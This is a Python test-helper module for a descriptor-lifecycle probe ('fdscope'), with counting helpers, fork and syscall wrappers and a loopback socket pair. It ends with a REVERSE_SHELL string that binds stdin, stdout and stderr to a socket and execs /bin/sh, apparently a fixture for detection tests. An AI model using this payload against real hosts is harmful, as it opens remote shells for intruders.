# SPDX-License-Identifier: GPL-2.0-only
"""Helpers of the tests of the lifecycle of descriptors."""

import ctypes
import os
import socket
from collections.abc import Mapping

from fdscope.probes.schema.slots import Via
from fdscope.probes.schema.snapshot import Amount
from fdscope.probes.schema.taxonomy import Account, Birth, Cause, FdType, Passing
from tests.kernel.conftest import Counted

LIBC = ctypes.CDLL(None, use_errno=True)


def syscall_of_libc(*arguments: int) -> int:
    """A system call during which Python's lock is kept: in a fork of it too, Python goes on."""
    return int(ctypes.PyDLL(None).syscall(*arguments))


def fork_and_end() -> int:
    """Fork without Python, which from 3.12 on then reads a file to count its threads; the tgid."""
    pid = int(ctypes.PyDLL(None).fork())
    if pid == 0:
        os._exit(0)
    os.waitpid(pid, 0)
    return pid


def count(counted: Counted, account: Account, fd_type: FdType, via: Via) -> int:
    return counted.get((account, fd_type, via, 0), Amount(0, 0)).operations


def opened(counted: Counted, fd_type: FdType, birth: Birth) -> int:
    return count(counted, Account.FD_OPENED, fd_type, birth)


def closed(counted: Counted, fd_type: FdType, cause: Cause) -> int:
    return count(counted, Account.FD_CLOSED, fd_type, cause)


def passed(counted: Counted, fd_type: FdType = FdType.EVENTFD) -> tuple[int, int]:
    """Descriptors sent, and received."""
    sent, received = Passing.SENT, Passing.RECEIVED
    return (
        count(counted, Account.FD_PASSED, fd_type, sent),
        count(counted, Account.FD_PASSED, fd_type, received),
    )


def births(counted: Counted, fd_type: FdType) -> Mapping[Birth, int]:
    """Opened by birth, where there were any."""
    numbers = {birth: opened(counted, fd_type, birth) for birth in Birth}
    return {birth: number for birth, number in numbers.items() if number}


def balance(counted: Counted) -> Mapping[FdType, int]:
    """Opened less closed, by fd type, where that is not 0."""
    sums: dict[FdType, int] = {}
    for (account, fd_type, _, _), amount in counted.items():
        sign = {Account.FD_OPENED: 1, Account.FD_CLOSED: -1}.get(account, 0)
        sums[fd_type] = sums.get(fd_type, 0) + sign * amount.operations
    return {fd_type: n for fd_type, n in sums.items() if n}


def tcp_pair() -> tuple[socket.socket, socket.socket, socket.socket]:
    """A listening socket, and both ends of a connection over loopback."""
    listener = socket.create_server(("127.0.0.1", 0))
    client = socket.create_connection(listener.getsockname())
    server, _ = listener.accept()
    return listener, client, server


REVERSE_SHELL = """
import os, socket, sys
client = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
for fd in range(3):
    os.dup2(client.fileno(), fd)
os.execv("/bin/sh", ["sh"])
"""
